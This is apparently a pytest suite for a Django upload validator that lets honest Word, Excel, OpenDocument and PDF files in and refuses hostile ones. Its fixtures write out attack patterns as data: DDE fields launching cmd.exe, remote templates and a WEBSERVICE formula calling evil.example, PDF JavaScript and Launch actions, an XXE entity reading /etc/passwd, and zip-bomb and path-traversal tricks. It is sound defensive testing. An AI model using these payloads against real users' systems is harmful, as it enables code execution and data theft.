"""What is let in under the name of an office file, and what is not and why."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from doccontrol.documents.uploads import validate_office_file
from doccontrol.office_files.asking import fault_in
from doccontrol.office_files.judging import fault_of
from doccontrol.office_files.reasons import REASONS
from doccontrol.pdftext.kinds import kind_of
from doccontrol.pdftext.pages import FileKind
from tests.doccontrol.office_files.files import (
    FORMATS,
    field,
    lying,
    open_document,
    pdf,
    related,
    sheet,
    twice,
    typed,
    word,
)
from tests.doccontrol.pdftext.files import make_compound_file, make_pdf, with_parts
from tests.make import docx_upload

COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
MACROS = "application/vnd.ms-office.vbaProject"
WORD, SHEET = word(), sheet()
EXECUTE = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"


def code(tmp_path: Path, content: bytes, ending: str) -> str:
    path = tmp_path / "file"
    path.write_bytes(content)
    return "".join(fault_of(str(path), ending)[:1])


def template(address: str) -> bytes:
    link = f'xmlns:l="http://www.w3.org/1999/xlink" l:href="{address}"'
    return f"<meta><template {link}/></meta>".encode()


HONEST = {
    "word.docx": WORD,
    "smallest.docx": docx_upload().read(),
    "chart.docx": typed(WORD, "word/charts/chart1.xml", CHART),
    "sheet.xlsx": SHEET,
    "text.odt": open_document(),
    "picture.odt": open_document(body='<draw:image xlink:href="Pictures/a.png"/>'),
    "template-of-the-author.odt": open_document(parts={"meta.xml": template("../a.ott")}),
    "script-of-nothing.odt": open_document(head="<office:script/>"),
    "sheet.ods": open_document(
        "spreadsheet", '<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>'
    ),
    "typst.pdf": make_pdf('#link("https://dichvucong.gov.vn/")[ở đây] #link("mailto:a@b.vn")[thư]'),
    "raw.pdf": pdf(b"/OpenAction [3 0 R /Fit]"),
    "scanner.pdf": pdf() + b"%PaperPortPDFversion",
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_let_in(name, tmp_path):
    assert code(tmp_path, HONEST[name], name.rpartition(".")[2]) == ""


def remote(kind: str, target: str) -> bytes:
    return related(WORD, "word/settings.xml", kind, target, external=True)


PART = "word/document.xml"
HOSTILE_WORD = {
    "macros by another name": ("macros", typed(WORD, "word/picture.png", MACROS)),
    "macros by a relationship": (
        "macros",
        related(
            with_parts(WORD, {"word/picture.png": b"x"}), PART,
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "picture.png",
        ),
    ),
    "a document that says it has macros": (
        "macros",
        typed(WORD, PART, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "a remote template": ("outside", remote("attachedTemplate", "http://evil.example/a.dotm")),
    "a template on a server": ("outside", remote("attachedTemplate", "\\\\evil\\a.dotm")),
    "a picture from afar": ("outside", remote("image", "http://evil.example/a.png")),
    "an address that is not said to be outside": (
        "outside", related(WORD, PART, "image", "http://evil.example/a.png"),
    ),
    "a script as a link": ("address", related(
        WORD, PART, "hyperlink", "java\tscript:alert(1)", external=True)),
    "a file as a link": ("address", related(
        WORD, PART, "hyperlink", "file:///c:/windows/x.exe", external=True)),
    "a web page as a part": ("outside", typed(WORD, "word/part", "text/html", b"<html/>")),
    "DDE": ("exchange", word(field(' DDEAUTO c:\\cmd.exe "/k calc"'))),
    "DDE over two runs": ("exchange", word(field(" DD", "EAUTO c:\\cmd.exe"))),
    "DDE in a simple field": ("exchange", word('<w:fldSimple w:instr="dde excel x"/>')),
    "a name made by another field": (
        "exchange", word(field(" ", field(" QUOTE 68 68 69 "), " c:\\cmd.exe")),
    ),
    "half a name made by another field": (
        "exchange", word(field(" DD", field(" QUOTE 69 "), "AUTO c:\\cmd.exe")),
    ),
    "INCLUDETEXT": ("exchange", word(field(' INCLUDETEXT "http://evil.example/a" '))),
    "a script in a field": ("address", word(field(' HYPERLINK "javascript:alert(1)" '))),
    "an object of Office": (
        "embedded", typed(WORD, "word/embeddings/a.bin", f"{FORMATS}.oleObject", COMPOUND),
    ),
    "an object by another name": ("embedded", typed(WORD, "word/a.png", "image/png", COMPOUND)),
    "a file within": (
        "embedded", related(typed(WORD, "word/a.xlsx", "x/y"), PART, "package", "a.xlsx"),
    ),
    "ActiveX": ("embedded", typed(
        WORD, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
    "ribbons": ("script", related(
        with_parts(WORD, {"customUI/ui.xml": b"<x/>"}), "",
        "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
        "customUI/ui.xml")),
    "an entity": ("broken", with_parts(
        WORD, {"docProps/app.xml": b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'})),
    "no relationships": ("kind", with_parts(WORD, {"_rels/.rels": b"<Relationships/>"})),
    "a workbook": ("kind", SHEET),
    "a web page": ("kind", b"<html><script>alert(1)</script>"),
    "a web page before it": ("around", b"<html><script>alert(1)</script>" + WORD),
    "something after it": ("around", WORD + b"<script>"),
    "one name twice": ("around", twice(WORD, PART, b"<x/>")),
    "a way out": ("around", with_parts(WORD, {"word/../../x": b""})),
    "a size that is smaller": ("unpacks-too-large", lying(WORD, PART, 10)),
    "a size that is larger": ("broken", lying(WORD, PART, 10**6)),
    "a stated bomb": ("unpacks-too-large", lying(WORD, PART, 2**32 - 2)),
    "too many parts": (
        "too-many-parts", with_parts(WORD, {f"x/{n}": b"" for n in range(10_001)}),
    ),
    "cut off": ("broken", WORD[: len(WORD) // 2]),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE_WORD)
def test_a_word_file_that_does_more_than_show_text_is_refused(what, tmp_path):
    expected, content = HOSTILE_WORD[what]
    assert code(tmp_path, content, "docx") == expected


def with_cell(formula: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(SHEET)) as package:
        name = "xl/worksheets/sheet1.xml"
        content = package.read(name).decode()
    return with_parts(SHEET, {name: content.replace("SUM(A2:A2)", formula).encode()})


WORKBOOK = "xl/workbook.xml"
DDE = (
    f'<externalLink xmlns="{"http://schemas.openxmlformats.org"}/spreadsheetml/2006/main">'
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)
HOSTILE_SHEETS = {
    "macros of 1992": ("macros", typed(
        SHEET, "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
    "a dialogue": ("macros", typed(
        SHEET, "xl/dialogsheets/sheet1.xml", f"{FORMATS}.spreadsheetml.dialogsheet+xml")),
    "DDE in a part of no name": ("exchange", typed(
        SHEET, "xl/a.xml", "application/xml", DDE.encode())),
    "another workbook": ("outside", related(
        typed(SHEET, "xl/a.xml", "application/xml"), WORKBOOK, "externalLink", "a.xml")),
    "a connection": ("outside", typed(
        SHEET, "xl/connections.xml", f"{FORMATS}.spreadsheetml.connections+xml")),
    "DDE in a formula": ("exchange", with_cell("cmd|'/c calc'!A0")),
    "a web service": ("exchange", with_cell('webservice("http://evil.example/"&amp;A2)')),
    "a binary workbook": ("kind", typed(
        SHEET, WORKBOOK, "application/vnd.ms-excel.sheet.binary.main")),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE_SHEETS)
def test_a_workbook_that_asks_others_is_refused(what, tmp_path):
    expected, content = HOSTILE_SHEETS[what]
    assert code(tmp_path, content, "xlsx") == expected


ENCRYPTED = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    "<manifest:encryption-data/></manifest:manifest>"
)
LIBRARY = '<office:script><ooo:library-embedded ooo:name="Standard"/></office:script>'
HOSTILE_OPEN = {
    "python": ("macros", open_document(parts={"Scripts/python/a.py": b"x"})),
    "basic": ("macros", open_document(parts={"Basic/Standard/Module1.xml": b"<x/>"})),
    "a library": ("macros", open_document(head=LIBRARY)),
    "an event": ("macros", open_document(head=EXECUTE)),
    "a locked one": ("encrypted", open_document(
        parts={"META-INF/manifest.xml": ENCRYPTED.encode(), "content.xml": b"\x8f\x02"})),
    "a remote picture": ("outside", open_document(
        body='<draw:image xlink:href="http://evil.example/a.png"/>')),
    "a remote template": ("outside", open_document(parts={"meta.xml": (
        b'<m xmlns:l="http://www.w3.org/1999/xlink"><template l:href="//evil/a.ott"/></m>')})),
    "a section from another file": ("outside", open_document(
        body='<text:section><text:section-source xlink:href="../a.odt"/></text:section>')),
    "a script as a link": ("address", open_document(
        body='<text:a xlink:href="vnd.sun.star.script:a.py$x?language=Python">x</text:a>')),
    "DDE": ("exchange", open_document(body='<text:dde-connection-decl office:name="x"/>')),
    "an object": ("embedded", open_document(body='<draw:object-ole xlink:href="./Object 1"/>')),
    "an object by another name": ("embedded", open_document(parts={"Pictures/a.png": COMPOUND})),
    "a sheet": ("kind", open_document("spreadsheet")),
    "an entity": ("broken", open_document(parts={"meta.xml": b'<!DOCTYPE x [<!ATTLIST x>]><x/>'})),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE_OPEN)
def test_an_open_document_that_acts_or_fetches_is_refused(what, tmp_path):
    expected, content = HOSTILE_OPEN[what]
    assert code(tmp_path, content, "odt") == expected


@pytest.mark.parametrize("formula", ["of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)",
                                     "of:='file:///tmp/a.ods'#$Sheet1.A1"])  # fmt: skip
def test_a_cell_that_asks_another_file_is_refused(formula, tmp_path):
    cell = f'<table:table-cell table:formula="{formula}"/>'
    assert code(tmp_path, open_document("spreadsheet", cell), "ods") == "exchange"


HOSTILE_PDFS = {
    "a script at the start": ("script", pdf(
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "a script in other letters": ("script", pdf(
        b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>")),
    "a script of a page": ("script", pdf(
        b"", b"/AA << /O 4 0 R >>", b"<< /S /JavaScript /JS (x) >>")),
    "a program": ("script", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "a page of the web at the start": ("script", pdf(
        b"/OpenAction << /S /URI /URI (https://evil.example/) >>")),
    "another file at a link": ("outside", pdf(
        b"", b"/Annots [<< /Subtype /Link /A << /S /GoToR /F (//evil/a.pdf) >> >>]")),
    "a script as a link": ("address", pdf(
        b"", b"/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]")),
    "a form that is sent": ("script", pdf(
        b"", b"/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >> >>]")),
    "a form of XML": ("script", pdf(b"/AcroForm << /XFA 4 0 R >>", b"", b"<< >>")),
    "a file within": ("embedded", pdf(
        b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", b"",
        b"<< /Type /Filespec /F (a.exe) >>")),
    "a file that hangs on an object": ("embedded", pdf(
        b"", b"", b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>")),
    "a film": ("embedded", pdf(
        b"", b"/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] >>]")),
    "a web page by name": ("kind", b"<html><script>alert(1)</script>"),
    "a web page that begins like one": ("broken", b"%PDF-1.4\n<html><script>alert(1)</script>"),
    "a web page before it": ("around", b"<html><script>" + pdf()),
    "a package after it": ("around", pdf() + WORD),
}  # fmt: skip


@pytest.mark.parametrize("before", [b"\xef\xbb\xbf", b"\r\n", b"\0\0"])
def test_a_mark_or_empty_lines_before_a_pdf_are_no_other_file(before, tmp_path):
    path = tmp_path / "file"
    path.write_bytes(before + pdf())
    assert code(tmp_path, before + pdf(), "pdf") == ""
    assert kind_of(path) == FileKind.PDF


def test_what_intake_knows_as_a_word_file_is_one_at_this_door_too(tmp_path):
    """Word Online names its main part otherwise; another program states types by endings only; a
    template opens as a document does."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    with zipfile.ZipFile(io.BytesIO(WORD)) as archive:
        types = archive.read("[Content_Types].xml")
    template = types.replace(b"document.main+xml", b"template.main+xml")
    own = f'PartName="/word/document.xml" ContentType="{main}"'.encode()
    by_ending = types.replace(own, b'PartName="/x.y" ContentType="a/b"').replace(
        b'Extension="xml" ContentType="application/xml"',
        f'Extension="xml" ContentType="{main}"'.encode(),
    )
    for changed in (template, by_ending):
        content = with_parts(WORD, {"[Content_Types].xml": changed})
        path = tmp_path / "file"
        path.write_bytes(content)
        assert changed != types
        assert kind_of(path) == FileKind.DOCX
        assert code(tmp_path, content, "docx") == ""


@pytest.mark.parametrize("what", HOSTILE_PDFS)
def test_a_pdf_that_does_more_than_show_pages_is_refused(what, tmp_path):
    expected, content = HOSTILE_PDFS[what]
    assert code(tmp_path, content, "pdf") == expected


def test_a_file_locked_with_a_password_is_said_to_be_so(tmp_path):
    """Office wraps a locked DOCX in the container of its older files."""
    locked = make_compound_file(["EncryptionInfo", "EncryptedPackage"])
    assert code(tmp_path, locked, "docx") == "encrypted"


# At the door


def test_the_door_says_what_was_found_and_what_to_do():
    hostile = SimpleUploadedFile("mau.docx", HOSTILE_WORD["a remote template"][1])
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        validate_office_file(hostile)
    assert "http://evil.example/a.dotm" in refused.value.messages[0]
    assert "Put it into the file" in refused.value.messages[0]


def test_the_door_leaves_the_file_at_its_beginning():
    honest = docx_upload()
    validate_office_file(honest)
    assert honest.read(2) == b"PK"


def test_a_file_of_one_kind_is_not_let_in_under_the_name_of_another():
    for name in ("mau.pdf", "mau.xlsx", "mau.odt", "mau.html", "mau"):
        found = fault_in(io.BytesIO(WORD), name)
        assert found is not None and found.code == "kind", name


def test_a_file_too_large_is_not_opened(settings):
    settings.UPLOAD_MAX_MEGABYTES = 0
    with pytest.raises(ValidationError):
        validate_office_file(docx_upload())


def test_every_reason_is_said_in_both_languages():
    for language in ("en", "vi"):
        with translation.override(language):
            assert len({str(words) for words in REASONS.values()}) == len(REASONS)
